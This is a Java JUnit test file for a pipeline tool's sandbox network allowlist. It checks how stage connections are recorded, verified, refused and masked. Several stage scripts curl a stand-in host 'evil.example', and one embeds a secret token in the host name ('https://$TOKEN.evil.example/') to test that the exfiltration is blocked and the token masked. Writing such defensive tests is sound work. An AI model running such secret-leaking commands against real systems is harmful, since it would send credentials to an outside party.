package org.colophon.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Stream;
import org.colophon.contract.Json;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** A stage with a list of hosts in a run: what it reaches, what is recorded, who may refuse it. */
final class HostListTest {
  private static final String LOOPBACK = "{ not_public: [127.0.0.0/8, '::1'] }";

  private Path root;
  private int pipelines;
  private TestPipeline pipeline;
  private Path profile;
  private HttpServer server;

  @BeforeEach
  void aServer(@TempDir Path folder) throws IOException {
    for (String program : List.of("bwrap", "socat", "curl")) {
      assumeTrue(
          Files.isExecutable(Path.of("/usr/bin", program)), "there is no program " + program);
    }
    server = HttpServer.create(new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), 0), 5);
    server.createContext(
        "/",
        exchange -> {
          try (exchange) {
            exchange.sendResponseHeaders(200, 6);
            exchange.getResponseBody().write("hello\n".getBytes(StandardCharsets.UTF_8));
          }
        });
    server.start();
    root = folder;
    pipeline = next();
    profile = folder.resolve("open.yaml");
    profile(LOOPBACK);
  }

  @AfterEach
  void stop() {
    server.stop(0);
  }

  @Test
  void everyConnectionIsRecordedAndVerified() throws IOException {
    stage(
            """
            curl -sSf http://localhost:PORT/hello
            curl -sS http://localhost:PORT/more https://evil.example/ || true
            """
                + TestPipeline.MAKES_NUMBERS)
        .exits(0);

    assertThat(read("logs/stdout.log")).isEqualTo("hello\nhello\n");
    List<JsonNode> rows = rows();
    assertThat(rows).hasSize(3);
    assertThat(rows.getFirst().path("host").asString()).isEqualTo("localhost");
    assertThat(rows.getFirst().path("port").asInt()).isEqualTo(port());
    assertThat(rows.getFirst().path("address").asString()).isEqualTo("127.0.0.1");
    assertThat(rows.getFirst().path("bytes_down").asInt()).isGreaterThan(6);
    assertThat(rows)
        .extracting(row -> row.path("allowed").asBoolean())
        .containsExactly(true, true, false);
    assertThat(rows.getLast().path("reason").asString()).contains("not among the hosts");
    assertThat(pipeline.manifestText())
        .contains("\"network.jsonl\"")
        .doesNotContain("network_refused");
    pipeline.command("verify", "x").exits(0);
    Files.writeString(file("network.jsonl"), "");
    pipeline.command("verify", "x").exits(2).stdoutContains("network.jsonl");
  }

  @Test
  void aStageThatFailsIsShownWithWhatItWasRefused() throws IOException {
    TestPipeline.Outcome outcome = stage("curl -sSf https://evil.example/ || exit 3").exits(3);

    String refused =
        "network_refused: evil.example port 443: it is not among the hosts of the stage";
    assertThat(outcome.err()).contains("  " + refused);
    assertThat(read("stage_summary.json")).contains(refused);
    pipeline.command("why", "x", "01").exits(0).stdoutContains(refused);
  }

  @Test
  void aProfileThatGivesLessRefusesBeforeARunBegins() throws IOException {
    for (String less : List.of("{ most: none }", "{ hosts: ['*.example.org:443'] }")) {
      profile(less);

      stage("true").exits(64).stderrContains("stage 01_fetch: it asks for");

      assertThat(pipeline.runFolder()).doesNotExist();
    }
  }

  @Test
  void aListThatTheProfileCoversRuns() throws IOException {
    profile("{ hosts: ['tcp://localhost:" + port() + "'], not_public: ['127.0.0.1', '::1'] }");

    stage("curl -sSf http://localhost:PORT/\n" + TestPipeline.MAKES_NUMBERS).exits(0);
  }

  @Test
  void onlyCoreWritesTheRecord() throws IOException {
    stage("echo '{}' >\"$STAGE_DIR/network.jsonl\"\n" + TestPipeline.MAKES_NUMBERS)
        .exits(3)
        .stderrContains("changed_record: the stage made network.jsonl");

    assertThat(rows()).isEmpty();
    pipeline.command("verify", "x").exits(0);
  }

  @Test
  void whatAStageDoesToTheRecordMeanwhileIsUndoneAndFailsIt() throws IOException {
    stage(
            "curl -sSf http://localhost:PORT/\n: >\"$STAGE_DIR/network.jsonl\"\n"
                + TestPipeline.MAKES_NUMBERS)
        .exits(3)
        .stderrContains("changed_record: the stage made network.jsonl");

    assertThat(rows()).hasSize(1);
    pipeline.command("verify", "x").exits(0);
  }

  @Test
  void whatWasAskedForIsKnownAlsoWhenTheOrchestratorIsKilled() throws Exception {
    pipeline = next();
    pipeline
        .stage(
            "01_fetch",
            declared(),
            """
            curl -sSf http://localhost:PORT/
            curl -sS https://evil.example/
            sleep 600
            """
                .replace("PORT", Integer.toString(port())))
        .command("--version");
    Process orchestrator = start();
    while (trail().size() < 2) {
      assertThat(orchestrator.isAlive()).isTrue();
      LockSupport.parkNanos(10_000_000);
    }

    orchestrator.destroyForcibly().waitFor();

    assertThat(trail())
        .extracting(row -> row.path("host").asString() + " " + row.path("allowed").asBoolean())
        .containsExactly("localhost true", "evil.example false");
  }

  /** As a program of its own, which can be killed. */
  private Process start() throws IOException {
    return new ProcessBuilder(TestProgram.run(pipeline, "x", "--env", profile.toString()))
        .redirectErrorStream(true)
        .redirectOutput(root.resolve("orchestrator.log").toFile())
        .start();
  }

  /** The whole lines so far, wherever the attempt is. */
  private List<JsonNode> trail() throws IOException {
    if (!Files.exists(pipeline.runFolder())) {
      return List.of();
    }
    try (Stream<Path> all = Files.walk(pipeline.runFolder())) {
      Optional<Path> file = all.filter(path -> path.endsWith("network.jsonl")).findFirst();
      String text = file.isPresent() ? Files.readString(file.get()) : "";
      return text.substring(0, text.lastIndexOf('\n') + 1)
          .lines()
          .map(Json.mapper()::readTree)
          .toList();
    }
  }

  @Test
  void aStageWithoutAListHasNoRecord() throws IOException {
    pipeline
        .maker("mkdir \"$STAGE_DIR/network.jsonl\"\n" + TestPipeline.MAKES_NUMBERS)
        .run("--env", profile.toString())
        .exits(3)
        .stderrContains("changed_record: the stage made network.jsonl");

    assertThat(pipeline.runFolder().resolve("01_make/network.jsonl")).doesNotExist();
  }

  @Test
  void aSecretAsAHostIsMasked() throws IOException {
    Path secrets = root.resolve(".env");
    profile(LOOPBACK + "\nsecrets: { file: " + secrets + " }");
    Files.writeString(secrets, "TOKEN=AbCd1234eFgH5678\n");
    Files.setPosixFilePermissions(secrets, PosixFilePermissions.fromString("rw-------"));

    stage(
            "curl -sS \"https://$TOKEN.evil.example/\"\nexit 3",
            "secrets: [TOKEN]\n    " + declared())
        .exits(3)
        .stderrContains("network_refused: [secret TOKEN].evil.example");

    assertThat(read("network.jsonl"))
        .contains("[secret TOKEN].evil.example")
        .doesNotContainIgnoringCase("abcd");
    assertThat(pipeline.manifestText()).doesNotContainIgnoringCase("abcd1234");
  }

  @Test
  void anotherListIsAnotherKey() throws IOException {
    stage(TestPipeline.MAKES_NUMBERS).exits(0);

    assertThat(read("stage_key.json")).contains("\"hosts tcp://localhost:" + port() + "\"");
  }

  @Test
  void theListIsExplained() throws IOException {
    stage(TestPipeline.MAKES_NUMBERS).exits(0);

    pipeline
        .command(
            "sandbox",
            "explain",
            "01",
            "--env",
            profile.toString(),
            "--pipeline",
            pipeline.folder().resolve("pipeline.yaml").toString())
        .exits(0)
        .stdoutContains(
            "network    hosts tcp://localhost:"
                + port()
                + "; also at the addresses 127.0.0.0/8, 0:0:0:0:0:0:0:1/128");
  }

  @Test
  void whatIsNoHostIsNamedWithItsFile() throws IOException {
    stage("true", "network: { hosts: ['*.org:443'] }").exits(2).stderrContains("top-level domain");
    stage("true", "network: { hosts: ['https://a.org'] }").exits(2).stderrContains("network");
    stage("true", "network: { hosts: [] }").exits(2).stderrContains("network");
    profile("{ not_public: ['10.0.0.0/99'] }");
    stage("true").exits(2).stderrContains("open.yaml: network: 10.0.0.0 has no 99 bits");
  }

  private TestPipeline next() throws IOException {
    pipelines++;
    return new TestPipeline(Files.createDirectory(root.resolve("p" + pipelines)));
  }

  private TestPipeline.Outcome stage(String script) throws IOException {
    return stage(script, declared());
  }

  private String declared() {
    return "network: { hosts: ['tcp://localhost:"
        + port()
        + "'] }\n    outputs: { numbers: { type: Numbers@0.1, files: '*.json', optional: true } }";
  }

  private TestPipeline.Outcome stage(String script, String yaml) throws IOException {
    pipeline = next();
    return pipeline
        .stage("01_fetch", yaml, script.replace("PORT", Integer.toString(port())))
        .run("--env", profile.toString());
  }

  private void profile(String network) throws IOException {
    Files.writeString(
        profile, "schema: env/1.1\nexecutor: local\nsandbox: required\nnetwork: " + network + "\n");
  }

  private int port() {
    return server.getAddress().getPort();
  }

  private Path file(String name) {
    return pipeline.runFolder().resolve("01_fetch").resolve(name);
  }

  private String read(String name) throws IOException {
    return Files.readString(file(name));
  }

  private List<JsonNode> rows() throws IOException {
    try (Stream<String> lines = Files.lines(file("network.jsonl"))) {
      return lines.map(Json.mapper()::readTree).toList();
    }
  }
}
